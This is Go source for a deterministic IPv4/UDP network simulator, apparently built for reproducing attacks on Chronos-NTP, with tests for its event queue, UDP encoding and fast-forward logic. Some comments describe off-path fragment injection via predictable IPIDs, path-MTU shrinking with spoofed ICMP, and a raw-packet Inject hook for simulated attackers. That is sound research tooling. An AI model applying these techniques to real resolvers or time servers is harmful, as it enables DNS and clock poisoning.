		t.Fatalf("valid datagram rejected: %v", err)
	}
	// Corrupt one payload byte.
	d[10] ^= 0xFF
	if _, _, _, err := DecodeUDP(ipA, ipB, d); err == nil {
		t.Error("corrupted datagram accepted")
	}
	// Truncated header.
	if _, _, _, err := DecodeUDP(ipA, ipB, d[:4]); err == nil {
		t.Error("truncated datagram accepted")
	}
	// Wrong pseudo-header (different source IP) must fail.
	d2 := EncodeUDP(src, dst, []byte("payload"))
	if _, _, _, err := DecodeUDP(ipC, ipB, d2); err == nil {
		t.Error("datagram with wrong pseudo-header accepted")
	}
}

func TestAddrAndPacketString(t *testing.T) {
	a := Addr{IP: ipA, Port: 53}
	if a.String() != "10.0.0.1:53" {
		t.Errorf("Addr.String = %q", a.String())
	}
	p := Packet{Src: ipA, Dst: ipB, ID: 5, Offset: 8, More: true, Payload: []byte{1}}
	if p.String() == "" || !p.IsFragment() {
		t.Error("Packet diagnostics broken")
	}
	if (Packet{}).IsFragment() {
		t.Error("whole packet misreported as fragment")
	}
}

func TestFastForwardEmptyWindow(t *testing.T) {
	n := New(Config{Seed: 9})
	start := n.Now()
	if ran := n.FastForward(365 * 24 * time.Hour); ran != 0 {
		t.Fatalf("empty fast-forward executed %d events", ran)
	}
	if got := n.Now().Sub(start); got != 365*24*time.Hour {
		t.Fatalf("fast-forward advanced %v, want one year", got)
	}
}

func TestFastForwardRunsWindowEvents(t *testing.T) {
	n := New(Config{Seed: 9})
	var fired []int
	n.After(time.Second, func() { fired = append(fired, 1) })
	n.After(3*time.Second, func() { fired = append(fired, 3) })
	n.After(10*time.Second, func() { fired = append(fired, 10) })
	cancelled := n.After(2*time.Second, func() { fired = append(fired, 2) })
	cancelled.Cancel()

	if ran := n.FastForward(5 * time.Second); ran != 2 {
		t.Fatalf("fast-forward ran %d events, want 2", ran)
	}
	if len(fired) != 2 || fired[0] != 1 || fired[1] != 3 {
		t.Fatalf("fired = %v, want [1 3]", fired)
	}
	// The out-of-window event is still pending.
	when, ok := n.NextEventAt()
	if !ok || when.Sub(n.Now()) != 5*time.Second {
		t.Fatalf("next event at %v ok=%v, want +5s", when, ok)
	}
	if ran := n.FastForward(5 * time.Second); ran != 1 {
		t.Fatal("pending event lost across fast-forwards")
	}
	if len(fired) != 3 || fired[2] != 10 {
		t.Fatalf("fired = %v, want [1 3 10]", fired)
	}
}

func TestNextEventAtSkipsCancelled(t *testing.T) {
	n := New(Config{Seed: 9})
	early := n.After(time.Second, func() {})
	n.After(2*time.Second, func() {})
	early.Cancel()
	when, ok := n.NextEventAt()
	if !ok || when.Sub(n.Now()) != 2*time.Second {
		t.Fatalf("NextEventAt = %v ok=%v, want the live +2s event", when, ok)
	}
	if _, ok := New(Config{Seed: 1}).NextEventAt(); ok {
		t.Fatal("NextEventAt reported an event on an empty queue")
	}
}

// TestFastForwardMatchesRun: FastForward over a window with traffic is
// behaviourally identical to Run — same deliveries, same final clock.
func TestFastForwardMatchesRun(t *testing.T) {
	build := func() (*Network, *int) {
		n := New(Config{Seed: 77})
		a, _ := n.AddHost(IPv4(10, 0, 0, 1))
		b, _ := n.AddHost(IPv4(10, 0, 0, 2))
		got := 0
		_ = b.Listen(9, func(time.Time, Meta, []byte) { got++ })
		for i := 0; i < 5; i++ {
			i := i
			n.After(time.Duration(i)*time.Second, func() {
				_ = a.SendUDP(7, Addr{IP: b.IP(), Port: 9}, []byte{byte(i)})
			})
		}
		return n, &got
	}
	n1, got1 := build()
	n1.RunFor(time.Minute)
	n2, got2 := build()
	n2.FastForward(time.Minute)
	if *got1 != 5 || *got1 != *got2 {
		t.Fatalf("deliveries differ: run=%d fast-forward=%d", *got1, *got2)
	}
	if !n1.Now().Equal(n2.Now()) {
		t.Fatalf("clocks diverged: %v vs %v", n1.Now(), n2.Now())
	}
}
