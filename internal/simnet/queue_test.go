package simnet

import (
	"bytes"
	"math/rand"
	"testing"
	"time"
)

// randomDelay draws scheduling offsets spanning every tier of the
// calendar: zero (same-instant seq ordering), sub-bucket, within the L0
// window, within the L1 horizon, and beyond it into the outer tier.
func randomDelay(rng *rand.Rand) time.Duration {
	switch rng.Intn(10) {
	case 0:
		return 0
	case 1, 2, 3:
		return time.Duration(rng.Int63n(int64(2 * time.Millisecond)))
	case 4, 5, 6:
		return time.Duration(rng.Int63n(int64(3 * time.Second)))
	case 7, 8:
		return time.Duration(rng.Int63n(int64(3 * time.Hour)))
	default:
		return time.Duration(rng.Int63n(int64(300 * time.Hour)))
	}
}

// TestCalendarHeapEquivalence is the queue's ground truth: a million
// randomized schedule/cancel/advance/peek operations driven through the
// calendar queue and the legacy binary heap in lockstep must produce the
// same cancel outcomes, the same NextEventAt answers, the same per-window
// executed-event counts, and — above all — the identical dispatch order.
// The (when, seq) total order is the contract every golden, conformance,
// and determinism test in the repo stands on.
func TestCalendarHeapEquivalence(t *testing.T) {
	ops := 1_000_000
	if testing.Short() {
		ops = 100_000
	}
	calNet := New(Config{Seed: 42})
	heapNet := New(Config{Seed: 42, LegacyHeap: true})

	var calLog, heapLog []int32
	type pair struct{ cal, heap Timer }
	var timers []pair
	rng := rand.New(rand.NewSource(99)) // op script, shared by both engines
	var nextID int32

	for op := 0; op < ops; op++ {
		switch r := rng.Intn(100); {
		case r < 45: // schedule
			d := randomDelay(rng)
			id := nextID
			nextID++
			tc := calNet.After(d, func() { calLog = append(calLog, id) })
			th := heapNet.After(d, func() { heapLog = append(heapLog, id) })
			timers = append(timers, pair{cal: tc, heap: th})
		case r < 65: // cancel a random (possibly stale) timer
			if len(timers) == 0 {
				continue
			}
			j := rng.Intn(len(timers))
			p := timers[j]
			timers[j] = timers[len(timers)-1]
			timers = timers[:len(timers)-1]
			c1, c2 := p.cal.Cancel(), p.heap.Cancel()
			if c1 != c2 {
				t.Fatalf("op %d: cancel diverges: calendar %v, heap %v", op, c1, c2)
			}
		case r < 90: // advance
			d := randomDelay(rng) / 3
			e1 := calNet.FastForward(d)
			e2 := heapNet.FastForward(d)
			if e1 != e2 {
				t.Fatalf("op %d: FastForward(%v) executed %d vs %d events", op, d, e1, e2)
			}
			if !calNet.Now().Equal(heapNet.Now()) {
				t.Fatalf("op %d: clocks diverge: %v vs %v", op, calNet.Now(), heapNet.Now())
			}
		default: // peek
			w1, ok1 := calNet.NextEventAt()
			w2, ok2 := heapNet.NextEventAt()
			if ok1 != ok2 || (ok1 && !w1.Equal(w2)) {
				t.Fatalf("op %d: NextEventAt diverges: (%v,%v) vs (%v,%v)", op, w1, ok1, w2, ok2)
			}
		}
	}
	// Drain everything still pending, including far-future outer-tier
	// events, and compare the complete dispatch histories.
	for calNet.Step() {
	}
	for heapNet.Step() {
	}
	if len(calLog) != len(heapLog) {
		t.Fatalf("dispatch count diverges: calendar %d, heap %d", len(calLog), len(heapLog))
	}
	for i := range calLog {
		if calLog[i] != heapLog[i] {
			t.Fatalf("dispatch order diverges at %d: calendar ran %d, heap ran %d", i, calLog[i], heapLog[i])
		}
	}
	if len(calLog) == 0 || len(timers) == len(calLog) {
		t.Fatalf("degenerate run: %d dispatches", len(calLog))
	}
}

// TestPacketPathCalendarHeapBitIdentical drives identical seeded traffic
// — jittered latency, loss, mixed fragmented/unfragmented datagrams —
// through a calendar-queue network and a legacy-heap network. The wire
// behaviour (delivery order, payloads, timestamps, counters) must be
// bit-identical: the queue swap may not perturb anything observable.
func TestPacketPathCalendarHeapBitIdentical(t *testing.T) {
	type outcome struct {
		payloads  [][]byte
		times     []time.Time
		delivered uint64
		dropped   uint64
	}
	drive := func(legacy bool) outcome {
		n := New(Config{
			Seed:       17,
			LegacyHeap: legacy,
			Loss:       func(src, dst IP, rng *rand.Rand) bool { return rng.Intn(8) == 0 },
		})
		a, err := n.AddHost(ipA)
		if err != nil {
			t.Fatal(err)
		}
		b, err := n.AddHost(ipB)
		if err != nil {
			t.Fatal(err)
		}
		var out outcome
		if err := b.Listen(123, func(now time.Time, meta Meta, payload []byte) {
			out.payloads = append(out.payloads, append([]byte(nil), payload...))
			out.times = append(out.times, now)
		}); err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 200; i++ {
			size := 16 + (i%3)*1000 // 2016 fragments; 16/1016 ride the pooled path
			payload := bytes.Repeat([]byte{byte(i)}, size)
			if err := a.SendUDP(5000, Addr{IP: ipB, Port: 123}, payload); err != nil {
				t.Fatal(err)
			}
			n.RunFor(75 * time.Millisecond)
		}
		n.RunFor(time.Second)
		out.delivered, out.dropped = n.Delivered(), n.Dropped()
		return out
	}
	cal := drive(false)
	leg := drive(true)
	if cal.delivered != leg.delivered || cal.dropped != leg.dropped {
		t.Fatalf("counters diverge: calendar %d/%d, heap %d/%d",
			cal.delivered, cal.dropped, leg.delivered, leg.dropped)
	}
	if len(cal.payloads) != len(leg.payloads) {
		t.Fatalf("delivery count diverges: %d vs %d", len(cal.payloads), len(leg.payloads))
	}
	for i := range cal.payloads {
		if !bytes.Equal(cal.payloads[i], leg.payloads[i]) {
			t.Fatalf("payload %d diverges between calendar and heap", i)
		}
		if !cal.times[i].Equal(leg.times[i]) {
			t.Fatalf("delivery time %d diverges: %v vs %v", i, cal.times[i], leg.times[i])
		}
	}
	if cal.delivered == 0 || cal.dropped == 0 {
		t.Fatalf("traffic mix degenerate (delivered=%d dropped=%d)", cal.delivered, cal.dropped)
	}
}

// TestMassCancellationSweptOnce pins the tombstone contract from the
// cancelled-event rework: cancelling is O(1) (no queue surgery), and
// every dead event is visited exactly once by a sweep — dispatch after a
// mass cancellation (the timeout-heavy fleet pattern that degraded the
// old heap to O(dead·log n) eager pops) does O(dead) total work, not
// O(dead) per surviving pop.
func TestMassCancellationSweptOnce(t *testing.T) {
	const total = 50_000
	n := New(Config{Seed: 7})
	fired := 0
	timers := make([]Timer, 0, total)
	// Spread timers across all three tiers: microseconds to hundreds of
	// hours out.
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < total; i++ {
		timers = append(timers, n.After(randomDelay(rng)+time.Microsecond, func() { fired++ }))
	}
	// Cancel all but every 100th timer.
	cancelled := 0
	for i, tm := range timers {
		if i%100 == 0 {
			continue
		}
		if !tm.Cancel() {
			t.Fatalf("timer %d: cancel failed before dispatch", i)
		}
		cancelled++
	}
	if got := n.sweptTombstones(); got != 0 {
		t.Fatalf("cancellation itself swept %d events; want lazy tombstones (0)", got)
	}
	// Survivors must still dispatch — in order — and draining the queue
	// must reclaim each tombstone exactly once.
	last := n.Now()
	for n.Step() {
		if n.Now().Before(last) {
			t.Fatal("virtual time moved backwards during sweep")
		}
		last = n.Now()
	}
	if want := total - cancelled; fired != want {
		t.Fatalf("fired %d survivors, want %d", fired, want)
	}
	if got := n.sweptTombstones(); got != uint64(cancelled) {
		t.Fatalf("swept %d tombstones over the drain, want exactly %d (each dead event visited once)",
			got, cancelled)
	}
}

// TestEventQueueSteadyStateAllocFree pins schedule+dispatch to zero
// allocations once the slab, free-list, and bucket spare pool are warm —
// the property that keeps fleet-scale GC pressure flat as the wheels
// rotate through fresh time windows.
func TestEventQueueSteadyStateAllocFree(t *testing.T) {
	n := New(Config{Seed: 9})
	fired := 0
	fn := func() { fired++ }
	cycle := func() {
		for i := 0; i < 64; i++ {
			n.After(time.Duration(i)*137*time.Microsecond, fn)
		}
		n.RunFor(50 * time.Millisecond)
	}
	for i := 0; i < 64; i++ {
		cycle() // warm slab, free-list, and bucket spares
	}
	if allocs := testing.AllocsPerRun(200, cycle); allocs != 0 {
		t.Fatalf("steady-state schedule+dispatch allocates %.1f objects/op, want 0", allocs)
	}
	if fired == 0 {
		t.Fatal("no events fired; the cycle under test is vacuous")
	}
}

// sweptTombstones reports how many cancelled events the calendar's lazy
// sweeps have reclaimed so far (test hook).
func (n *Network) sweptTombstones() uint64 { return n.cal.swept }
