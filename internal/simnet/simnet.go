// Package simnet is a deterministic discrete-event IPv4/UDP network
// simulator. It is the substrate every other component of the Chronos-NTP
// reproduction runs on: DNS servers and resolvers, NTP servers, Chronos and
// classic NTP clients, and the attackers.
//
// Design goals, in order:
//
//  1. Determinism. A single-threaded event loop over virtual time, ordered
//     by (timestamp, sequence number), with one seeded RNG. Every
//     experiment is bit-reproducible from its seed. No goroutines.
//  2. Protocol fidelity where the paper's attacks live: real UDP headers
//     and checksums, per-path MTU with genuine IPv4 fragmentation and
//     receiver-side reassembly caches, predictable per-host IPID counters
//     (the classic globally incrementing counter that makes fragment
//     injection practical), and raw-packet injection for off-path
//     attackers.
//  3. Simplicity elsewhere: no routing tables (full mesh), no TCP, no ICMP
//     beyond silent drops.
//
// The hot paths are allocation-free in steady state: events live in a
// slab — one growable []event arena addressed by generation-counted int32
// handles, so the GC scans a single pointer-dense object instead of one
// per in-flight event and a stale Timer handle cannot cancel a reused
// slot — scheduled in a two-level calendar queue keyed by int64-ns
// virtual time (see queue.go; O(1) amortized schedule and dispatch,
// cancelled events left as lazily swept tombstones). Packet delivery
// embeds the Packet in the event instead of a closure, and unfragmented
// datagram buffers come from a per-network pool that reclaims them the
// moment the receiving handler returns. Handlers therefore only borrow
// their payload: a handler that needs the bytes beyond its own
// invocation must copy them.
package simnet

import (
	"errors"
	"fmt"
	"math/rand"
	"time"

	"chronosntp/internal/ipfrag"
)

// Errors returned by Network methods.
var (
	ErrHostExists   = errors.New("simnet: host already exists")
	ErrNoSuchHost   = errors.New("simnet: no such host")
	ErrPortInUse    = errors.New("simnet: port already bound")
	ErrPayloadLimit = errors.New("simnet: payload exceeds 65535 bytes")
)

// Meta carries per-datagram metadata into UDP handlers. Exposing the IPID
// matters: off-path attackers learn a server's IPID counter by eliciting
// any response from it.
type Meta struct {
	From Addr
	To   Addr
	IPID uint16
}

// Handler consumes a reassembled, checksum-valid UDP datagram. The payload
// is borrowed: it may be a pooled buffer that the network reclaims as soon
// as the handler returns, so a handler that keeps the bytes must copy them.
type Handler func(now time.Time, meta Meta, payload []byte)

// LatencyFn returns the one-way delay for a packet from src to dst. It may
// consult rng for jitter; the rng is the network's seeded source, so jitter
// is reproducible.
type LatencyFn func(src, dst IP, rng *rand.Rand) time.Duration

// LossFn reports whether a packet from src to dst is dropped.
type LossFn func(src, dst IP, rng *rand.Rand) bool

// MTUFn returns the path MTU from src to dst (bytes, including the
// 20-byte IP header).
type MTUFn func(src, dst IP) int

// DefaultMTU is the Ethernet MTU assumed for unconfigured paths.
const DefaultMTU = 1500

// Config parameterises a Network.
type Config struct {
	Seed    int64     // RNG seed; 0 means 1
	Start   time.Time // virtual-time origin; zero means 2020-06-01T00:00:00Z
	Latency LatencyFn // nil means 2ms + U[0,3ms) jitter
	Loss    LossFn    // nil means lossless
	MTU     MTUFn     // nil means DefaultMTU everywhere

	// LegacyHeap selects the pre-calendar binary-heap scheduler. Event
	// order is identical either way; the shim exists so equivalence and
	// determinism tests can run both engines in one binary.
	LegacyHeap bool
}

// Network is the simulated internet. All methods must be called from the
// event-loop thread (handlers and timer callbacks already are).
type Network struct {
	start     time.Time // virtual-time epoch; event times are ns since it
	startUnix int64     // start.UnixNano(), cached for NowUnixNano
	now       time.Time
	nowNs     int64
	seq       uint64
	events    []event  // slab: all events live here, addressed by handle
	free      []int32  // free slab slots (slots are generation-counted)
	cal       calendar // two-level wheel + overflow tier (see queue.go)
	heap      *qheap   // non-nil ⇒ Config.LegacyHeap scheduler
	bufs      [][]byte // pooled datagram buffers for the unfragmented path
	rng       *rand.Rand
	hosts     map[IP]*Host
	taps      []tapEntry
	tapSeq    uint64
	latency   LatencyFn
	loss      LossFn
	mtu       MTUFn
	mtuOvr    map[[2]IP]int

	delivered uint64 // datagrams handed to handlers
	dropped   uint64 // packets lost, tapped away, or undeliverable
}

// New builds a Network from cfg.
func New(cfg Config) *Network {
	seed := cfg.Seed
	if seed == 0 {
		seed = 1
	}
	start := cfg.Start
	if start.IsZero() {
		start = time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)
	}
	lat := cfg.Latency
	if lat == nil {
		lat = func(src, dst IP, rng *rand.Rand) time.Duration {
			return 2*time.Millisecond + time.Duration(rng.Int63n(int64(3*time.Millisecond)))
		}
	}
	loss := cfg.Loss
	if loss == nil {
		loss = func(src, dst IP, rng *rand.Rand) bool { return false }
	}
	mtu := cfg.MTU
	if mtu == nil {
		mtu = func(src, dst IP) int { return DefaultMTU }
	}
	n := &Network{
		start:     start,
		startUnix: start.UnixNano(),
		now:       start,
		rng:       rand.New(rand.NewSource(seed)),
		hosts:     make(map[IP]*Host),
		latency:   lat,
		loss:      loss,
		mtu:       mtu,
		mtuOvr:    make(map[[2]IP]int),
	}
	if cfg.LegacyHeap {
		n.heap = &qheap{}
	}
	return n
}

// SetPathMTU overrides the MTU for the directed path src→dst. This models
// the effect of (spoofed) ICMP fragmentation-needed messages: off-path
// attackers shrink a nameserver's path MTU toward a victim resolver so its
// responses fragment. A non-positive mtu removes the override.
func (n *Network) SetPathMTU(src, dst IP, mtu int) {
	if mtu <= 0 {
		delete(n.mtuOvr, [2]IP{src, dst})
		return
	}
	n.mtuOvr[[2]IP{src, dst}] = mtu
}

// PathMTU reports the effective MTU for src→dst.
func (n *Network) PathMTU(src, dst IP) int {
	if mtu, ok := n.mtuOvr[[2]IP{src, dst}]; ok {
		return mtu
	}
	return n.mtu(src, dst)
}

// Now returns the current virtual time.
func (n *Network) Now() time.Time { return n.now }

// NowUnixNano returns Now().UnixNano() without materializing a time.Time
// — the hot representation for code that timestamps per-packet state at
// fleet scale.
func (n *Network) NowUnixNano() int64 { return n.startUnix + n.nowNs }

// Rand returns the network's seeded RNG. Services use it so that a single
// seed reproduces the entire run.
func (n *Network) Rand() *rand.Rand { return n.rng }

// Delivered reports how many UDP datagrams reached a handler.
func (n *Network) Delivered() uint64 { return n.delivered }

// Dropped reports how many packets were lost, tapped away, or
// undeliverable.
func (n *Network) Dropped() uint64 { return n.dropped }

// AddHost registers a host at ip.
func (n *Network) AddHost(ip IP) (*Host, error) {
	if _, ok := n.hosts[ip]; ok {
		return nil, fmt.Errorf("%w: %s", ErrHostExists, ip)
	}
	h := &Host{
		net:      n,
		ip:       ip,
		ports:    make(map[uint16]Handler),
		reasm:    ipfrag.NewReassembler(ipfrag.Config{}),
		nextIPID: uint16(n.rng.Intn(1 << 16)),
		nextEph:  49152,
	}
	n.hosts[ip] = h
	return h, nil
}

// Host returns the host registered at ip, if any.
func (n *Network) Host(ip IP) (*Host, bool) {
	h, ok := n.hosts[ip]
	return h, ok
}

// AddTap installs an on-path observer/mutator and returns a handle used to
// remove it. Taps run in installation order; the first non-Pass verdict
// wins. While any tap is installed, transmitted buffers are handed to the
// tap chain un-pooled (a Replace verdict may alias them), so the zero-alloc
// fast path applies only to tap-free networks.
func (n *Network) AddTap(t Tap) TapHandle {
	n.tapSeq++
	n.taps = append(n.taps, tapEntry{id: n.tapSeq, tap: t})
	return TapHandle{net: n, id: n.tapSeq}
}

// TapHandle identifies an installed tap.
type TapHandle struct {
	net *Network
	id  uint64
}

// Remove uninstalls the tap, reporting whether it was still installed.
func (h TapHandle) Remove() bool {
	if h.net == nil {
		return false
	}
	for i, cur := range h.net.taps {
		if cur.id == h.id {
			h.net.taps = append(h.net.taps[:i], h.net.taps[i+1:]...)
			return true
		}
	}
	return false
}

// SendUDP transmits payload from the registered host at from to to,
// fragmenting at the path MTU. It returns an error only for local problems
// (unknown source host, oversized payload); network loss is silent, as in
// real UDP.
//
// The common case — an unfragmented datagram on a tap-free network — runs
// through the pooled buffer path: the datagram is encoded into a recycled
// buffer that returns to the pool once the receiving handler (or a drop)
// is done with it.
func (n *Network) SendUDP(from, to Addr, payload []byte) error {
	h, ok := n.hosts[from.IP]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNoSuchHost, from.IP)
	}
	dlen := UDPHeaderSize + len(payload)
	if dlen > 65535 {
		return ErrPayloadLimit
	}
	id := h.allocIPID()
	mtu := n.PathMTU(from.IP, to.IP)
	room := mtu - ipfrag.IPHeaderSize
	if room < ipfrag.FragmentUnit {
		return fmt.Errorf("fragment: %w: mtu=%d", ipfrag.ErrMTUTooSmall, mtu)
	}
	if dlen <= room && len(n.taps) == 0 {
		// Fast path: no fragmentation, no taps. Encode straight into a
		// pooled buffer; it is released after delivery.
		buf := n.getBuf(dlen)
		putUDP(buf, from, to, payload)
		n.schedule(Packet{
			Src: from.IP, Dst: to.IP, Proto: ProtoUDP, ID: id, Payload: buf,
		}, buf)
		return nil
	}
	datagram := EncodeUDP(from, to, payload)
	key := ipfrag.FlowKey{Src: [4]byte(from.IP), Dst: [4]byte(to.IP), Proto: ProtoUDP, ID: id}
	frags, err := ipfrag.Split(key, datagram, mtu)
	if err != nil {
		return fmt.Errorf("fragment: %w", err)
	}
	for _, f := range frags {
		n.transmit(Packet{
			Src: from.IP, Dst: to.IP, Proto: ProtoUDP,
			ID: id, Offset: f.Offset, More: f.More, Payload: f.Data,
		})
	}
	return nil
}

// Inject places a raw packet on the wire after delay. Off-path attackers
// use it to send spoofed datagrams and fragments: Src, ID, Offset and More
// are entirely caller-controlled.
func (n *Network) Inject(pkt Packet, delay time.Duration) {
	if delay < 0 {
		delay = 0
	}
	h := n.allocEvent()
	ev := &n.events[h]
	ev.kind = evTransmit
	ev.pkt = pkt
	n.pushEvent(h, n.nowNs+int64(delay))
}

// transmit runs taps, loss, and schedules delivery.
func (n *Network) transmit(pkt Packet) {
	if len(n.taps) == 0 {
		n.schedule(pkt, nil)
		return
	}
	pkts := []Packet{pkt}
	for _, entry := range n.taps {
		var next []Packet
		for _, p := range pkts {
			verdict, repl := entry.tap.Inspect(p)
			switch verdict {
			case Drop:
				n.dropped++
			case Replace:
				next = append(next, repl...)
			default:
				next = append(next, p)
			}
		}
		pkts = next
	}
	for _, p := range pkts {
		n.schedule(p, nil)
	}
}

// schedule applies loss and enqueues the delivery event. buf, when non-nil,
// is the pooled backing buffer of p.Payload, reclaimed after delivery (or
// immediately on loss).
func (n *Network) schedule(p Packet, buf []byte) {
	if n.loss(p.Src, p.Dst, n.rng) {
		n.dropped++
		if buf != nil {
			n.releaseBuf(buf)
		}
		return
	}
	h := n.allocEvent()
	ev := &n.events[h]
	ev.kind = evDeliver
	ev.pkt = p
	ev.buf = buf
	n.pushEvent(h, n.nowNs+int64(n.latency(p.Src, p.Dst, n.rng)))
}

// deliver hands a packet to its destination host: reassembly, UDP
// validation, then handler dispatch.
func (n *Network) deliver(pkt Packet) {
	h, ok := n.hosts[pkt.Dst]
	if !ok {
		n.dropped++
		return
	}
	datagram, done := h.reasm.Insert(n.now, pkt.Fragment())
	if !done {
		return // waiting for more fragments (or dropped as malformed)
	}
	if pkt.Proto != ProtoUDP {
		n.dropped++
		return
	}
	srcPort, dstPort, payload, err := DecodeUDP(pkt.Src, pkt.Dst, datagram)
	if err != nil {
		n.dropped++
		return
	}
	handler, ok := h.ports[dstPort]
	if !ok {
		n.dropped++ // port unreachable: silent drop
		return
	}
	n.delivered++
	handler(n.now, Meta{
		From: Addr{IP: pkt.Src, Port: srcPort},
		To:   Addr{IP: pkt.Dst, Port: dstPort},
		IPID: pkt.ID,
	}, payload)
}

// Timer is a cancellable scheduled callback, valid by value. The zero
// Timer is inert: Cancel on it reports false.
type Timer struct {
	net *Network
	idx int32
	gen uint32
}

// Cancel prevents the timer from firing if it has not fired yet. It
// reports whether the cancellation was effective. A Timer whose event has
// already fired (and whose slab slot may have been recycled for a later
// event) safely reports false. Cancellation is a tombstone: the event
// stays queued and its slot is reclaimed when a sweep reaches it, so
// cancelling is O(1) no matter how many dead events pile up.
func (t Timer) Cancel() bool {
	if t.net == nil {
		return false
	}
	ev := &t.net.events[t.idx]
	if ev.gen != t.gen || ev.cancelled {
		return false
	}
	ev.cancelled = true
	if c := &t.net.cal; c.peekValid && c.peekItem.h == t.idx {
		c.peekValid = false // the cached minimum just became a tombstone
	}
	return true
}

// After schedules fn to run after d of virtual time and returns a
// cancellable Timer. A non-positive d runs fn at the current instant (but
// still through the queue, preserving ordering).
func (n *Network) After(d time.Duration, fn func()) Timer {
	if d < 0 {
		d = 0
	}
	h := n.allocEvent()
	ev := &n.events[h]
	ev.fn = fn
	gen := ev.gen
	n.pushEvent(h, n.nowNs+int64(d))
	return Timer{net: n, idx: h, gen: gen}
}

// getBuf hands out a pooled datagram buffer of the requested size.
func (n *Network) getBuf(size int) []byte {
	if k := len(n.bufs) - 1; k >= 0 {
		b := n.bufs[k]
		n.bufs[k] = nil
		n.bufs = n.bufs[:k]
		if cap(b) >= size {
			return b[:size]
		}
	}
	c := size
	if c < 2048 {
		c = 2048
	}
	return make([]byte, size, c)
}

// releaseBuf returns a pooled buffer for reuse.
func (n *Network) releaseBuf(b []byte) {
	n.bufs = append(n.bufs, b)
}

// setNow advances the virtual clock to ns nanoseconds past the epoch.
func (n *Network) setNow(ns int64) {
	n.nowNs = ns
	n.now = n.start.Add(time.Duration(ns))
}

// Step executes the next pending event, if any, advancing virtual time to
// it. It reports whether an event was executed.
func (n *Network) Step() bool {
	var h int32
	if n.heap != nil {
		h = n.heapPop()
	} else {
		h = n.popMin()
	}
	if h < 0 {
		return false
	}
	// Copy the fields out before dispatch: the handler may schedule,
	// growing the slab and invalidating the &n.events[h] pointer.
	ev := &n.events[h]
	if ev.when > n.nowNs {
		n.setNow(ev.when)
	}
	kind, fn, pkt := ev.kind, ev.fn, ev.pkt
	switch kind {
	case evDeliver:
		n.deliver(pkt)
	case evTransmit:
		n.transmit(pkt)
	default:
		fn()
	}
	n.recycleEvent(h)
	return true
}

// Run executes all events up to and including those at time until, then
// advances virtual time to until.
func (n *Network) Run(until time.Time) { n.runUntil(until) }

// runUntil is the event pump shared by Run and FastForward: execute every
// pending event at or before until, then advance the clock to until. It
// returns the number of events executed.
func (n *Network) runUntil(until time.Time) int {
	untilNs := int64(until.Sub(n.start))
	executed := 0
	for {
		whenNs, ok := n.nextEventNs()
		if !ok || whenNs > untilNs {
			break
		}
		if n.Step() {
			executed++
		}
	}
	if untilNs > n.nowNs {
		n.setNow(untilNs)
	}
	return executed
}

// RunFor executes events for d of virtual time from now.
func (n *Network) RunFor(d time.Duration) { n.Run(n.now.Add(d)) }

// NextEventAt reports when the earliest pending (non-cancelled) event is
// scheduled. ok is false when the queue is empty. Long-horizon drivers use
// it to decide how far they can FastForward.
func (n *Network) NextEventAt() (when time.Time, ok bool) {
	ns, ok := n.nextEventNs()
	if !ok {
		return time.Time{}, false
	}
	return n.start.Add(time.Duration(ns)), true
}

// nextEventNs is NextEventAt in epoch-nanosecond form. It sweeps (and
// recycles) tombstoned events it encounters but never advances the wheel
// position — peeking is free of side effects on ordering.
func (n *Network) nextEventNs() (whenNs int64, ok bool) {
	var it qitem
	if n.heap != nil {
		it, ok = n.heapPeek()
	} else {
		it, ok = n.peekMin()
	}
	return it.when, ok
}

// FastForward is the round-compression fast path for long-horizon
// simulation: it advances virtual time by d, executing any events that
// fall inside the window, and returns how many events ran. When the
// window holds no events — the common case between two scheduled Chronos
// sync rounds — the hop is O(1): no per-interval ticking, no heap
// traffic, so simulating a decade of idle wire time costs the same as
// simulating a minute. internal/shiftsim leans on this to sustain
// >100k simulated rounds per second, and internal/fleet and core's
// scenario sync loop use the returned event count to skip re-sampling
// across provably idle windows.
func (n *Network) FastForward(d time.Duration) int {
	if d < 0 {
		d = 0
	}
	return n.runUntil(n.now.Add(d))
}

// Drain executes events until the queue is empty or limit events have run.
// It returns the number of events executed. A zero limit means no limit.
func (n *Network) Drain(limit int) int {
	count := 0
	for n.Step() {
		count++
		if limit > 0 && count >= limit {
			break
		}
	}
	return count
}

// tapEntry pairs a tap with its removal id.
type tapEntry struct {
	id  uint64
	tap Tap
}

// event kinds: a plain callback, a packet delivery, or a deferred
// transmit (Inject). Embedding the packet in the event removes the
// per-packet closure the delivery path used to allocate.
const (
	evFn uint8 = iota
	evDeliver
	evTransmit
)

// event is a slab slot. when is nanoseconds since the network epoch — a
// single int64 comparison orders the queue instead of time.Time struct
// copies. gen is bumped on every recycle so a stale Timer cannot cancel
// the slot's next occupant; cancelled marks a tombstone awaiting sweep.
type event struct {
	when      int64
	seq       uint64
	fn        func()
	pkt       Packet
	buf       []byte // pooled payload backing, released on recycle
	kind      uint8
	cancelled bool
	gen       uint32
}
