package simnet

import "math/bits"

// This file is the event engine: a slab of events addressed by int32
// handles plus a two-level calendar queue (a rotating bucket wheel with a
// sorted far-future overflow tier) that replaced the container/heap
// binary heap of *event pointers.
//
// Why a slab: the fleet engine keeps hundreds of thousands of events in
// flight across 100 shard networks. As individual heap objects (even
// free-listed ones) every live event is a pointer-dense allocation the
// garbage collector must find and scan on every cycle — ~25% of fleet
// CPU went to GC scanning. In the slab, all events of a network live in
// one growable []event; the collector sees a single object and the
// free-list is a []int32 of slot indices. Handles are generation-counted
// exactly like the old pointer free-list, so a stale Timer can never
// cancel a slot's next occupant.
//
// Why a calendar queue: the binary heap costs O(log n) pointer-chasing
// compares per push and per pop (~18% of fleet CPU), and cancelled
// events had to be popped eagerly from the top — mass cancellation
// (timeout-heavy fleets) degraded to O(dead·log n). The calendar queue
// keys events by their absolute int64-ns virtual time:
//
//   - L0, the dispatch wheel: l0Size buckets of l0Width ns each,
//     covering exactly one L1 bucket's window. Each bucket is kept
//     sorted by (when, seq) with a binary-search insert — buckets are
//     small, so the insert touches one or two cache lines and performs
//     no slab derefs (the sort key is stored next to the handle).
//     Dispatch pops from the front of the current bucket: O(1).
//   - L1, the overflow wheel: l1Size buckets of l1Width = l0Size·l0Width
//     ns each, unsorted append. When the dispatch wheel drains, the next
//     non-empty L1 bucket is migrated into L0 (each event migrates at
//     most once, so scheduling remains O(1) amortized).
//   - outer, the far-future tier: a binary min-heap of (when, seq) keys
//     for events beyond the L1 horizon (~2.4 h). Its root is the
//     earliest far event, so NextEventAt and an idle FastForward hop
